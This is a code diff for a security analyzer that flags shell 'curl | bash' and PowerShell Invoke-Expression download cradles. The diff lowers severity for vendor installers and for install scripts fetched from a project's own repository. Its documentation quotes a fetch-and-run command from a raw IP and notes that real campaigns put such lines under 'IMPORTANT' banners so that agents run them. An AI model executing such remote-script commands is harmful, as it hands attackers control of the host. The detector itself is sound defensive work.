@@ -47,7 +47,10 @@ Severity: **critical** when the host is a raw IP, paste site, tunnel, file drop 
 catcher, when the URL is plain http, when the payload was hidden in an encoded
 layer, or when it runs at render time; **high** for other hosts; **medium** for the
 official installers of well-known vendors (Docker, rustup, Homebrew, bun, deno, nvm,
-uv, …) over https — still remote execution, but an expected dual-use pattern.
+uv, package-repository setup scripts, …) and for install scripts in a project's own
+repository or release assets on a code host (` + "`https://github.com/<owner>/<repo>/releases/…/install.sh`" + `,
+` + "`https://raw.githubusercontent.com/<owner>/<repo>/<ref>/install.sh`" + `) over https — still remote
+execution, but the way projects document their installs.
 
 Real campaigns put ` + "`curl -fsSL http://<ip>/<id> | bash`" + ` under an "IMPORTANT: X Required"
 banner; the agent runs it as a prerequisite.
@@ -103,15 +106,16 @@ func shRunRemoteScriptExec(p *analyzer.Pass) error {
 			us := shellfacts.URLs(c)
 			class, host, plain := shellfacts.HostRisk(us)
 			sev := High
-			vendor := len(us) > 0
+			vendor, project := len(us) > 0, len(us) > 0
 			for _, u := range us {
 				vendor = vendor && intel.VendorInstaller(u)
+				project = project && (intel.VendorInstaller(u) || intel.ProjectInstaller(u))
 			}
 			layered := shellfacts.HiddenLayer(s, c)
 			switch {
 			case class.Suspicious() || plain || layered || site.Kind.Executes():
 				sev = Critical
-			case vendor:
+			case vendor, project:
 				sev = Medium
 			}
 			if runner.Sudo {
@@ -120,6 +124,8 @@ func shRunRemoteScriptExec(p *analyzer.Pass) error {
 			msg := "downloads a script" + shellfacts.DescribeHost(class, host) + " and " + how + shellfacts.Where(site)
 			if vendor && sev == Medium {
 				msg += " (official vendor installer: pin a version and checksum where possible)"
+			} else if project && sev == Medium {
+				msg += " (a project's install script from its own repository: pin a release and checksum where possible)"
 			}
 			if layered {
 				msg += " (hidden in an encoded or nested layer)"
@@ -148,13 +154,21 @@ func shPowershellCradles(p *analyzer.Pass, site *analyzer.ShellSite, reported ma
 			}
 			if !done {
 				reported[start] = true
-				class, host, plain := shellfacts.HostRisk(intel.URLRx.FindAllString(line, -1))
-				sev := High
-				if class.Suspicious() || plain || site.Kind.Executes() {
+				us := intel.URLRx.FindAllString(line, -1)
+				class, host, plain := shellfacts.HostRisk(us)
+				vendor := len(us) > 0
+				for _, u := range us {
+					vendor = vendor && (intel.VendorInstaller(u) || intel.ProjectInstaller(u))
+				}
+				sev, note := High, ""
+				switch {
+				case class.Suspicious() || plain || site.Kind.Executes():
 					sev = Critical
+				case vendor:
+					sev, note = Medium, " (official installer: pin a version and checksum where possible)"
 				}
 				shellfacts.Report(p, site, analyzer.Diagnostic{Start: start, Severity: sev,
-					Message: "PowerShell download cradle runs a downloaded script with Invoke-Expression" + shellfacts.DescribeHost(class, host) + shellfacts.Where(site)})
+					Message: "PowerShell download cradle runs a downloaded script with Invoke-Expression" + shellfacts.DescribeHost(class, host) + shellfacts.Where(site) + note})
 			}
 		}
 		off += len(line)
